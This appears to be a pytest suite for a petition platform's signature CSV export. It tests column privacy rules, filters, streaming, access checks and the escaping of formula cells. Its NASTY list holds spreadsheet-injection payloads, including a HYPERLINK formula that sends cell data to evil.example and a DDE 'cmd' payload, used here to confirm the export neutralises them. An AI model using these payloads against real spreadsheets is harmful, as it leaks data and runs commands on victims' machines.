"""The signature CSV export: filters, permitted columns, formula cells, streaming, access."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import event

from advocacy.core.csvsafe import stream_rows
from advocacy.petitions import exports
from advocacy.petitions.exports import HEADER, DistrictFilter, ExportFilters
from advocacy.petitions.models import PetitionVersion, SignatureDistrict
from tests.conftest import ON_POSTGRES


@pytest.fixture
def organizer(make, auth):
    user = make.organizer(make.organization("Doctors Now"))
    auth.login(user.email)
    return user


@pytest.fixture
def petition(make, organizer):
    return make.petition(organizer.memberships[0].organization, slug="let-doctors-work")


def parse(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert rows[0] == list(HEADER)
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


def service_rows(petition, **filters) -> list[dict[str, str]]:
    return parse("".join(exports.export_csv(petition, ExportFilters(**filters))))


def districts(db, signature, *keys: tuple[str, str, str, str]) -> None:
    for chamber, state, district, status in keys:
        db.session.add(
            SignatureDistrict(
                signature_id=signature.id,
                chamber=chamber,
                state=state,
                district=district,
                status=status,
            )
        )
    db.session.commit()


def at(day: int, hour: int = 12) -> datetime:
    return datetime(2026, 11, day, hour, tzinfo=UTC)


# --- columns -----------------------------------------------------------------------------


def test_columns_of_a_signer_who_opted_in_and_is_public(db, make, petition):
    version = PetitionVersion(petition_id=petition.id, number=2, title=petition.title)
    db.session.add(version)
    db.session.commit()
    s = make.signature(
        petition,
        email="maria@example.com",
        first_name="Maria",
        last_name="Lopez",
        city="Syracuse",
        zip="13202",
        comment="My sister, a surgeon, drives a taxi.",
        public=True,
        opt_in=True,
        created_at=at(3, 9),
        confirmed_at=at(3, 10),
        version_id=version.id,
        ref="fb.ab12",
        utm_source="newsletter",
        utm_medium="email",
        utm_campaign="launch",
    )
    districts(
        db,
        s,
        ("us_house", "NY", "22", "matched"),
        ("state_upper", "NY", "48", "chosen"),
        ("state_lower", "NY", "128", "candidate"),
        ("state_lower", "NY", "129", "candidate"),
    )
    (row,) = service_rows(petition)
    assert row == {
        "signer number": "1",
        "first name": "Maria",
        "last name": "Lopez",
        "email": "maria@example.com",
        "city": "Syracuse",
        "state": "NY",
        "ZIP": "13202",
        "districts": "state_upper:NY-48 us_house:NY-22",  # candidates are not the signer's yet
        "comment": "My sister, a surgeon, drives a taxi.",
        "opted in": "yes",
        "confirmed at": "2026-11-03T10:00:00+00:00",
        "signed at": "2026-11-03T09:00:00+00:00",
        "version": "2",
        "ref": "fb.ab12",
        "utm_source": "newsletter",
        "utm_medium": "email",
        "utm_campaign": "launch",
    }


def test_no_email_without_opt_in_and_no_comment_unless_public(make, petition):
    make.signature(
        petition, email="quiet@example.com", opt_in=False, comment="Private words", public=False
    )
    make.signature(
        petition, email="shown@example.com", opt_in=False, comment="Public words", public=True
    )
    make.signature(petition, email="news@example.com", opt_in=True, comment="Hidden", public=False)
    rows = service_rows(petition)
    assert [(r["email"], r["comment"], r["opted in"]) for r in rows] == [
        ("", "", "no"),
        ("", "Public words", "no"),
        ("news@example.com", "", "yes"),
    ]


def test_only_this_petitions_signatures(make, petition):
    other = make.petition(petition.organization)
    make.signature(other, first_name="Elsewhere")
    make.signature(petition, first_name="Here")
    assert [r["first name"] for r in service_rows(petition)] == ["Here"]


# --- formula injection -------------------------------------------------------------------

NASTY = [
    '=HYPERLINK("https://evil.example/?d="&C2,"Open")',
    "+1",
    "-2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tx",
    "\rx",
]


def test_cells_that_would_be_formulas_start_with_a_quote(make, petition):
    for i, nasty in enumerate(NASTY):
        make.signature(
            petition,
            first_name=nasty,
            last_name='Doe, "Jr"',
            city=nasty,
            comment=f"{nasty}\nsecond line, with comma",
            public=True,
            ref=nasty[:100],
            utm_source=nasty,
            email=f"n{i}@example.com",
        )
    rows = service_rows(petition)
    assert [r["first name"] for r in rows] == ["'" + n for n in NASTY]
    assert {r["last name"] for r in rows} == {'Doe, "Jr"'}
    for row, nasty in zip(rows, NASTY, strict=True):
        assert row["city"] == row["utm_source"] == "'" + nasty
        assert row["comment"] == f"'{nasty}\nsecond line, with comma"
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r"


# --- filters -----------------------------------------------------------------------------


@pytest.fixture
def spread(db, make, petition):
    """Five signatures that each filter tells apart."""
    made = {
        "ny-early": make.signature(petition, state="NY", created_at=at(1, 0), opt_in=True),
        "ny-late": make.signature(petition, state="NY", created_at=at(5, 23), opt_in=False),
        "ca": make.signature(petition, state="CA", zip="94110", created_at=at(3), opt_in=True),
        "unconfirmed": make.signature(
            petition, state="NY", created_at=at(3), confirmed=False, opt_in=True
        ),
        "tx-22": make.signature(petition, state="TX", zip="77001", created_at=at(4), opt_in=False),
    }
    districts(db, made["ny-early"], ("us_house", "NY", "22", "matched"))
    districts(
        db,
        made["ny-late"],
        ("us_house", "NY", "22", "chosen"),
        ("state_upper", "NY", "22", "matched"),
    )
    districts(db, made["unconfirmed"], ("us_house", "NY", "22", "matched"))
    districts(db, made["tx-22"], ("us_house", "TX", "22", "matched"))
    districts(db, made["ca"], ("us_house", "NY", "22", "candidate"))  # never chosen: not in it
    return {s.last_name: name for name, s in made.items()}


def names(petition, spread, **filters) -> list[str]:
    return [spread[r["last name"]] for r in service_rows(petition, **filters)]


def test_confirmed_only_by_default(petition, spread):
    assert names(petition, spread) == ["ny-early", "ny-late", "ca", "tx-22"]
    assert "unconfirmed" in names(petition, spread, confirmed_only=False)


def test_date_range_is_inclusive_utc_days(petition, spread):
    assert names(petition, spread, start=date(2026, 11, 1), end=date(2026, 11, 1)) == ["ny-early"]
    assert names(petition, spread, start=date(2026, 11, 5)) == ["ny-late"]  # 23:00 on the 5th
    assert names(petition, spread, end=date(2026, 11, 3)) == ["ny-early", "ca"]
    assert names(petition, spread, start=date(2026, 11, 2), end=date(2026, 11, 4)) == [
        "ca",
        "tx-22",
    ]


def test_state(petition, spread):
    assert names(petition, spread, state="NY") == ["ny-early", "ny-late"]
    assert names(petition, spread, state="WY") == []


def test_district_counts_matched_and_chosen_not_candidates(petition, spread):
    ny22 = DistrictFilter("us_house", "NY", "22")
    assert names(petition, spread, district=ny22) == ["ny-early", "ny-late"]
    assert names(petition, spread, district=DistrictFilter("state_upper", "NY", "22")) == [
        "ny-late"
    ]
    assert names(petition, spread, district=DistrictFilter("us_house", "TX", "22")) == ["tx-22"]


def test_opted_in_only(petition, spread):
    assert names(petition, spread, opted_in_only=True) == ["ny-early", "ca"]


def test_filters_combine(petition, spread):
    ny22 = DistrictFilter("us_house", "NY", "22")
    assert names(petition, spread, state="NY", opted_in_only=True) == ["ny-early"]
    assert names(petition, spread, district=ny22, confirmed_only=False, opted_in_only=True) == [
        "ny-early",
        "unconfirmed",
    ]
    assert names(petition, spread, district=ny22, start=date(2026, 11, 2)) == ["ny-late"]
    assert exports.count_rows(petition, ExportFilters(district=ny22, confirmed_only=False)) == 3


# --- streaming ---------------------------------------------------------------------------


def test_rows_are_fetched_in_keyset_batches(db, make, petition, monkeypatch):
    monkeypatch.setattr(exports, "BATCH", 3)
    for i in range(8):
        make.signature(petition, last_name=f"N{i}")
    statements: list[str] = []

    def record(conn, cursor, statement, params, context, executemany):
        if "FROM signatures" in statement:
            statements.append(statement)

    event.listen(db.engine, "before_cursor_execute", record)
    try:
        rows = exports.export_rows(petition, ExportFilters())
        first = next(rows)
        assert len(statements) == 1  # one batch read, not the whole petition
        rest = list(rows)
    finally:
        event.remove(db.engine, "before_cursor_execute", record)
    assert [first[2], *(r[2] for r in rest)] == [f"N{i}" for i in range(8)]
    assert len(statements) == 3  # 3 + 3 + 2 rows
    assert all("LIMIT" in s and "signatures.id >" in s for s in statements)


def test_the_view_streams_an_attachment(client, make, petition):
    make.signature(petition, first_name="=cmd", opt_in=True, email="a@example.com")
    response = client.get(f"/organize/petitions/{petition.id}/export.csv")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    today = datetime.now(UTC).date().isoformat()
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="let-doctors-work-signatures-{today}.csv"'
    )
    (row,) = parse(response.get_data(as_text=True))
    assert row["first name"] == "'=cmd"
    assert row["email"] == "a@example.com"


def test_the_view_reads_the_filters_from_the_query(client, petition, spread):
    url = f"/organize/petitions/{petition.id}/export.csv"
    query = {
        "filtered": "1",
        "start": "2026-11-01",
        "end": "2026-11-05",
        "state": "ny",
        "chamber": "us_house",
        "district": "ny-22",
        "opted_in_only": "y",
    }  # confirmed_only left unticked
    rows = parse(client.get(url, query_string=query).get_data(as_text=True))
    assert [spread[r["last name"]] for r in rows] == ["ny-early", "unconfirmed"]
    # A hand-made link without the form's marker keeps "confirmed only".
    rows = parse(client.get(url, query_string={"state": "NY"}).get_data(as_text=True))
    assert [spread[r["last name"]] for r in rows] == ["ny-early", "ny-late"]


# --- the page and bad input ---------------------------------------------------------------


def test_the_page_has_the_form_and_is_linked_from_the_editor(client, petition, spread):
    edit = client.get(f"/organize/petitions/{petition.id}/edit").get_data(as_text=True)
    assert f"/organize/petitions/{petition.id}/export" in edit
    dashboard = client.get("/organize/").get_data(as_text=True)
    assert f"/organize/petitions/{petition.id}/export" in dashboard
    page = client.get(f"/organize/petitions/{petition.id}/export")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert re.search(r'<input [^>]*checked id="confirmed_only"', html)
    assert not re.search(r'<input [^>]*checked id="opted_in_only"', html)
    assert "4 signatures match" in html
    counted = client.get(
        f"/organize/petitions/{petition.id}/export",
        query_string={"filtered": "1", "state": "NY"},
    ).get_data(as_text=True)
    assert "3 signatures match" in counted  # confirmed box unticked: the unconfirmed one too


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ({"start": "yesterday"}, "start", "Enter a date, such as 2026-12-31."),
        ({"end": "2026-13-45"}, "end", "Enter a date, such as 2026-12-31."),
        (
            {"start": "2026-11-05", "end": "2026-11-01"},
            "end",
            "The end date is before the start date.",
        ),
        ({"state": "New York"}, "state", "Enter a state as two letters, such as NY."),
        ({"state": "ZZ"}, "state", "Enter a state as two letters, such as NY."),
        (
            {"chamber": "us_house", "district": "22"},
            "district",
            "Enter a district as state-number, such as NY-22.",
        ),
        ({"district": "NY-22"}, "district", "Choose the chamber of this district above."),
        ({"chamber": "us_house"}, "district", "Enter the district, such as NY-22."),
        (
            {"chamber": "us_house", "district": "CA-12", "state": "NY"},
            "district",
            "This district is not in NY.",
        ),
        ({"chamber": "moon", "district": "NY-22"}, "chamber", "Not a valid choice."),
    ],
)
def test_bad_filters_get_a_message_beside_the_field(client, petition, query, field, message):
    kept = {"filtered": "1", "start": "2026-11-01", "state": "NY", **query}
    for path in ("export", "export.csv"):
        response = client.get(f"/organize/petitions/{petition.id}/{path}", query_string=kept)
        html = response.get_data(as_text=True)
        assert response.status_code == 400
        assert response.mimetype == "text/html"
        assert f'id="{field}-error"' in html
        assert message in html
        if field != "start" and "start" not in query:
            assert 'value="2026-11-01"' in html  # the other entries kept


def test_a_control_character_in_the_query_is_refused_before_the_view(client, petition):
    # The request-wide rule for query strings (core/inputs.py): a 400 page, never a 500.
    for path in ("export", "export.csv"):
        response = client.get(
            f"/organize/petitions/{petition.id}/{path}", query_string={"state": "N\x00"}
        )
        assert response.status_code == 400
        assert response.mimetype == "text/html"


def test_not_logged_in_goes_to_login(client, make):
    p = make.petition()
    for path in ("export", "export.csv"):
        response = client.get(f"/organize/petitions/{p.id}/{path}")
        assert response.status_code == 302
        assert "/login?next=" in response.headers["Location"]


def test_another_organisation_gets_404(client, make, organizer):
    theirs = make.petition(make.organization("Someone Else"))
    make.signature(theirs)
    for path in ("export", "export.csv"):
        assert client.get(f"/organize/petitions/{theirs.id}/{path}").status_code == 404
    assert client.get("/organize/petitions/999999/export.csv").status_code == 404


# --- PostgreSQL: the database writes the rows ---------------------------------------------


@pytest.mark.postgres
@pytest.mark.skipif(not ON_POSTGRES, reason="needs TEST_DATABASE_URL=postgresql://…")
def test_copy_gives_the_cells_the_python_writer_gives(db, make, petition, spread):
    version = PetitionVersion(petition_id=petition.id, number=3, title=petition.title)
    db.session.add(version)
    db.session.commit()
    for i, nasty in enumerate([*NASTY, "", "plain", 'ünïcødé, "quoted"\nline']):
        s = make.signature(
            petition,
            first_name=nasty or "x",
            last_name=f"L{i}",
            email=f"{nasty[:1]}n{i}@example.com",
            city=nasty,
            comment=nasty,
            public=i % 2 == 0,
            opt_in=i % 3 == 0,
            ref=nasty[:100] or None,
            utm_source=nasty,
            utm_medium=nasty,
            utm_campaign=nasty,
            version_id=version.id,
            created_at=datetime(2026, 11, 2, 8, 30, 15, 999_999, tzinfo=UTC),
        )
        districts(db, s, ("us_house", "NY", "22", "matched"), ("state_lower", "NY", "1", "chosen"))
    for filters in (ExportFilters(), ExportFilters(confirmed_only=False, state="NY")):
        copied = "".join(exports.export_csv(petition, filters))
        python = "".join(stream_rows(HEADER, exports.export_rows(petition, filters), bom=True))
        assert parse(copied) == parse(python)
        assert len(parse(copied)) > len(NASTY)


@pytest.mark.postgres
@pytest.mark.skipif(not ON_POSTGRES, reason="needs TEST_DATABASE_URL=postgresql://…")
def test_copy_streams_in_chunks(make, petition, monkeypatch):
    monkeypatch.setattr(exports, "COPY_CHUNK", 200)
    for i in range(30):
        make.signature(petition, last_name=f"N{i}")
    chunks = list(exports.export_csv(petition, ExportFilters()))
    assert len(chunks) > 5
    assert [r["last name"] for r in parse("".join(chunks))] == [f"N{i}" for i in range(30)]


@pytest.mark.postgres
@pytest.mark.skipif(not ON_POSTGRES, reason="needs TEST_DATABASE_URL=postgresql://…")
def test_a_download_stopped_halfway_leaves_the_connection_usable(db, make, petition, monkeypatch):
    monkeypatch.setattr(exports, "COPY_CHUNK", 100)
    for i in range(20):
        make.signature(petition, last_name=f"N{i}")
    chunks = exports.export_csv(petition, ExportFilters())
    next(chunks), next(chunks)
    chunks.close()  # what Werkzeug does when the client goes away
    db.session.rollback()  # what the request's teardown does
    assert exports.count_rows(petition, ExportFilters()) == 20


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) is not installed")
def test_libreoffice_evaluates_no_formula_in_the_export(make, petition, client, tmp_path):
    """The issue's check: `soffice --headless --convert-to xlsx` on an export of hostile
    cells gives a workbook without a single formula."""
    for i, nasty in enumerate(NASTY):
        make.signature(petition, first_name=nasty, city=nasty, comment=nasty, public=True,
                       ref=nasty[:100], email=f"lo{i}@example.com", opt_in=True)  # fmt: skip
    response = client.get(f"/organize/petitions/{petition.id}/export.csv")
    assert response.status_code == 200
    exported = tmp_path / "export.csv"
    exported.write_bytes(response.data)
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
         "--convert-to", "xlsx", "--outdir", str(tmp_path), str(exported)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    with zipfile.ZipFile(tmp_path / "export.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
    assert "HYPERLINK" in strings or "SUM" in strings  # the hostile text is there, as text
